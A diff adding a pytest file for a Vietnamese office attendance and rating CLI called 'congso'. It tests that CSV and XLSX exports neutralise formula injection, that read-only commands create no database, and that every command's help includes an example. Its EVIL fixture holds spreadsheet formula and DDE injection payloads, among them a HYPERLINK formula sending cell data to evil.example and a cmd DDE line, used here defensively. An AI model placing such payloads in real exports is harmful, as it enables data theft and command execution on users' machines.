@@ -1,0 +1,256 @@
+"""The ``congso`` command as a user meets it: read-only commands, every report file, help, and no formulas.
+
+Each command runs as a real subprocess (``run_congso``) on a real gateway
+database; the XLSX files are read back with openpyxl and the CSV files
+with the csv module, as a clerk's spreadsheet would.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import sqlite3
+import uuid
+from pathlib import Path
+
+import click
+import openpyxl
+import pytest
+
+from congso.cli import main
+from congso.gateway.db import open_db
+
+from conftest import run_congso
+
+# Texts that Excel or LibreOffice would take for a formula or DDE (OWASP).
+EVIL = {
+    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
+    "dde": "=cmd|' /C calc'!A0",
+    "plus": "+SUM(1,2)",
+    "at": "@SUM(1,2)",
+    "minus": "-2+3",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+CONTROL_NAME = "Trần\x07Văn\x00 Cường"  # a bell and a NUL from a bad export
+CONTROL_SHOWN = "TrầnVăn Cường"         # what a workbook can hold of it
+
+
+def _fill(data: Path) -> None:
+    """A gateway database with hostile staff, desks and reasons, inserted with sqlite3 as a
+    careless import or an old version could have left them (past input cleaning)."""
+    open_db(data / "gateway.sqlite").conn.close()
+    conn = sqlite3.connect(data / "gateway.sqlite")
+    people = [("NV%03d" % i, f"{EVIL[k]}", EVIL[k]) for i, k in enumerate(EVIL, start=1)]
+    people.append(("NV099", CONTROL_NAME, "Văn\x0bphòng"))
+    people.append(("=NV100", "Lê Thị Bình", "@Văn phòng"))
+    with conn:
+        for sid, name, dept in people:
+            conn.execute("INSERT INTO staff(staff_id, name, department, active, added_at) VALUES (?,?,?,1,?)",
+                         (sid, name, dept, "2026-10-01T08:00:00+07:00"))
+        for seq, (sid, _name, _dept) in enumerate(people, start=1):
+            ts = "2026-10-05T07:25:00+07:00"
+            conn.execute(
+                "INSERT INTO attendance_events(event_id, node_id, seq, ts, local_date, clock_synced, received_at,"
+                " payload, method, credential, staff_id, match_score) VALUES (?,?,?,?,?,?,?,?,?,?,?,?)",
+                (str(uuid.uuid4()), "door-1", seq, ts, "2026-10-05", 1, ts, "{}", "card", "=0A0B0C0D", sid, None))
+        votes = [("=HYPERLINK(\"http://evil.example\")", "satisfied", [], "NV001"),
+                 ("+quay-1", "dissatisfied", ["=cmd|' /C calc'!A0"], "NV002"),
+                 ("@quay-2", "very_dissatisfied", ["-1+1", "thai_do"], "NV099")]
+        for seq, (desk, level, reasons, officer) in enumerate(votes, start=1):
+            ts = "2026-10-06T09:00:00+07:00"
+            conn.execute(
+                "INSERT INTO rating_events(event_id, node_id, seq, ts, local_date, clock_synced, received_at, payload,"
+                " desk_id, level, reasons, session_id, officer_id, dossier_code) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?)",
+                (str(uuid.uuid4()), "kiosk-1", seq, ts, "2026-10-06", 1, ts, "{}", desk, level,
+                 json.dumps(reasons), None, officer, "=HS-1"))
+    conn.close()
+
+
+def _cells(path: Path) -> list:
+    wb = openpyxl.load_workbook(path)
+    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+
+
+def _assert_text_cells(path: Path, texts: list[str]) -> None:
+    """No cell in the workbook is a formula, and each text is a cell exactly as typed, of type text."""
+    cells = _cells(path)
+    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
+    assert not formulas, f"{path.name} holds formulas: {formulas}"
+    by_value = {}
+    for c in cells:
+        by_value.setdefault(c.value, c)
+    for t in texts:
+        assert t in by_value, f"{t!r} not in {path.name}"
+        assert by_value[t].data_type == "s", (t, by_value[t].data_type)
+
+
+def _csv_rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+
+
+def _read(path: Path) -> str:
+    """A CSV file's text as the csv module must read it (a CR inside a field stays a CR)."""
+    with path.open(encoding="utf-8", newline="") as f:
+        return f.read()
+
+
+def _safe(t: str) -> str:
+    return "'" + t
+
+
+@pytest.fixture
+def office(tmp_path):
+    data = tmp_path / "data"
+    data.mkdir()
+    _fill(data)
+    return data
+
+
+def cli(data: Path, *args: str, ok: bool = True):
+    r = run_congso(*args, CONGSO_DATA_DIR=str(data), CONGSO_SITE_NAME="=UBND xã Thử")
+    if ok:
+        assert r.returncode == 0, r.stderr
+    return r
+
+
+# -- issue 14.6: formula injection -----------------------------------------------------------
+def test_timesheet_xlsx_and_csv_hold_hostile_names_as_text(office, tmp_path):
+    xlsx, out = tmp_path / "t.xlsx", tmp_path / "t.csv"
+    cli(office, "report", "attendance", "--month", "2026-10", "--xlsx", str(xlsx), "--csv", str(out))
+    # The control character did not stop the month's workbook; every name is there as text.
+    xlsx_texts = [t for t in EVIL.values() if not t.startswith("\r")]
+    _assert_text_cells(xlsx, [*xlsx_texts, CONTROL_SHOWN, "=NV100", "@Văn phòng", "=UBND xã Thử"])
+    rows = {r[0]: r for r in _csv_rows(_read(out))}
+    for i, t in enumerate(EVIL.values(), start=1):
+        row = rows["NV%03d" % i]
+        assert row[1] == _safe(t) and row[2] == _safe(t), row[:3]
+    assert rows[_safe("=NV100")][2] == _safe("@Văn phòng")
+    # Codes congso writes stay as they are: '-' is an off day (2026-10-04 is a Sunday).
+    header = _csv_rows(_read(out))[0]
+    assert rows["NV001"][header.index("2026-10-04")] == "-"
+
+    day = cli(office, "report", "attendance", "--day", "2026-10-05", "--csv", "-").stdout
+    day_rows = {r[0]: r for r in _csv_rows(day)}
+    assert day_rows["NV001"][1] == _safe(EVIL["hyperlink"]) and day_rows[_safe("=NV100")][2] == _safe("@Văn phòng")
+    lines = cli(office, "report", "attendance", "--day", "2026-10-05", "--json", "-").stdout.splitlines()
+    assert {json.loads(line)["name"] for line in lines} >= {EVIL["dde"], CONTROL_NAME}
+
+
+@pytest.mark.parametrize("by", ["officer", "desk", "reason"])
+def test_ratings_xlsx_and_csv_hold_hostile_text_as_text(office, tmp_path, by):
+    xlsx, out = tmp_path / f"r-{by}.xlsx", tmp_path / f"r-{by}.csv"
+    cli(office, "report", "ratings", "--from", "2026-10-01", "--to", "2026-10-31", "--by", by,
+        "--xlsx", str(xlsx), "--csv", str(out))
+    expected = {"officer": [EVIL["hyperlink"], EVIL["dde"], CONTROL_SHOWN],
+                "desk": ['=HYPERLINK("http://evil.example")', "+quay-1", "@quay-2"],
+                "reason": ["=cmd|' /C calc'!A0", "-1+1"]}[by]
+    _assert_text_cells(xlsx, ["=UBND xã Thử", *expected])
+    fields = {f for row in _csv_rows(_read(out)) for f in row}
+    for t in expected:
+        if t != CONTROL_SHOWN:
+            assert _safe(t) in fields and t not in fields, (t, fields)
+    assert _safe("=UBND xã Thử") in fields
+
+
+def test_events_export_csv_is_formula_safe(office, tmp_path):
+    out = tmp_path / "events.csv"
+    cli(office, "events", "export", "--format", "csv", "-o", str(out))
+    rows = list(csv.DictReader(io.StringIO(_read(out))))
+    assert {r["credential"] for r in rows if r["kind"] == "attendance"} == {"'=0A0B0C0D"}
+    assert {r["desk_id"] for r in rows if r["kind"] == "rating"} == {
+        "'=HYPERLINK(\"http://evil.example\")", "'+quay-1", "'@quay-2"}
+    assert {r["dossier_code"] for r in rows if r["kind"] == "rating"} == {"'=HS-1"}
+    assert any(r["reasons"] == "'-1+1;thai_do" for r in rows)
+
+
+def test_listing_csv_is_formula_safe_and_json_is_exact(office):
+    rows = {r[0]: r for r in _csv_rows(cli(office, "staff", "list", "--csv").stdout)}
+    assert rows["NV001"][1] == _safe(EVIL["hyperlink"]) and rows[_safe("=NV100")][1] == "Lê Thị Bình"
+    people = {p["staff_id"]: p for p in map(json.loads, cli(office, "staff", "list", "--json").stdout.splitlines())}
+    assert people["NV002"]["name"] == EVIL["dde"] and people["NV099"]["name"] == CONTROL_NAME
+    # The table shows the names as text: no control character reaches the terminal.
+    table = cli(office, "staff", "list").stdout
+    assert "\x07" not in table and "\x00" not in table and "Cường" in table
+
+
+# -- issue 13 (f): --csv - and --xlsx together ---------------------------------------------
+def test_ratings_csv_to_stdout_also_writes_the_xlsx(office, tmp_path):
+    xlsx = tmp_path / "both.xlsx"
+    r = cli(office, "report", "ratings", "--from", "2026-10-01", "--to", "2026-10-31", "--csv", "-", "--xlsx", str(xlsx))
+    assert xlsx.exists(), "the workbook was not written"
+    wb = openpyxl.load_workbook(xlsx)
+    assert any(c.value == 3 for row in wb.active.iter_rows() for c in row)  # the total of 3 votes
+    rows = _csv_rows(r.stdout)
+    assert rows[0][0] == "Đơn vị" and rows[-1][2] == "Tổng cộng"  # standard output is the CSV only
+
+
+# -- issue 13 (d): read-only commands never create a database ----------------------------------
+READ_ONLY = [
+    ["staff", "list"], ["card", "unknown"], ["holiday", "list"], ["dossier", "list"], ["calendar", "list"],
+    ["announce", "list"], ["desk", "list"], ["nodes"], ["report", "attendance", "--month", "2026-10"],
+    ["report", "ratings", "--from", "2026-10-01", "--to", "2026-10-31"], ["events", "export", "--format", "csv"],
+]
+
+
+@pytest.mark.parametrize("args", READ_ONLY, ids=" ".join)
+def test_read_only_command_with_a_wrong_data_dir_names_it_and_creates_nothing(tmp_path, args):
+    wrong = tmp_path / "no-such-dir"
+    r = run_congso(*args, CONGSO_DATA_DIR=str(wrong))
+    assert r.returncode != 0
+    assert f"no gateway database at {wrong / 'gateway.sqlite'}" in r.stderr, r.stderr
+    assert "Traceback" not in r.stderr and "0 staff" not in r.stdout
+    assert not wrong.exists(), "a read-only command created the data dir"
+
+
+def test_read_only_command_in_an_empty_data_dir_creates_no_database(tmp_path):
+    r = run_congso("staff", "list", CONGSO_DATA_DIR=str(tmp_path))
+    assert r.returncode != 0 and "no gateway database" in r.stderr
+    assert not (tmp_path / "gateway.sqlite").exists()
+
+
+# -- issue 13 (g): help that teaches -----------------------------------------------------------
+def _commands(group: click.Group, path=()):
+    yield path, group
+    for name, cmd in group.commands.items():
+        if isinstance(cmd, click.Group):
+            yield from _commands(cmd, (*path, name))
+        else:
+            yield (*path, name), cmd
+
+
+ALL = list(_commands(main))
+
+
+@pytest.mark.parametrize("path,cmd", ALL, ids=[" ".join(p) or "congso" for p, _ in ALL])
+def test_every_command_and_option_has_help_with_an_example(path, cmd):
+    text = cmd.help or ""
+    assert text.strip(), f"congso {' '.join(path)} has no help"
+    # An example is an indented line that runs congso (after sudo or variables).
+    assert re.search(r"^\s+(sudo .*|\S+=\S+ .*)?congso [a-z]", text, re.M), f"congso {' '.join(path)}: no example"
+    for p in cmd.params:
+        if isinstance(p, click.Option) and not p.hidden:
+            assert p.help, f"congso {' '.join(path)} {p.opts[0]} has no help"
+
+
+def test_holiday_list_remove_and_timeouts_explain_themselves():
+    for args in (["holiday", "list"], ["holiday", "remove"], ["enroll"], ["node", "identify"], ["node", "cmd"],
+                 ["node", "reload"], ["node", "screenshot"]):
+        r = run_congso(*args, "--help")
+        assert r.returncode == 0 and "Example" in r.stdout, (args, r.stdout)
+        if args[0] in ("enroll", "node"):
+            line = next(x for x in r.stdout.splitlines() if "--timeout" in x)
+            assert "Seconds to wait" in line, line
+
+
+def test_the_docs_the_cli_cites_exist():
+    root = Path(__file__).resolve().parents[1]
+    text = "\n".join((cmd.help or "") for _, cmd in ALL) + (main.callback.__doc__ or "")
+    import congso.cli as cli_pkg
+
+    text += cli_pkg.__doc__ or ""
+    for cited in set(re.findall(r"docs/[\w./-]+\.md", text)):
+        assert (root / cited).exists(), f"the CLI cites {cited}, which does not exist"
+    assert "Settings" in (cli_pkg.__doc__ or "") and "## Settings" in (root / "README.md").read_text(encoding="utf-8")
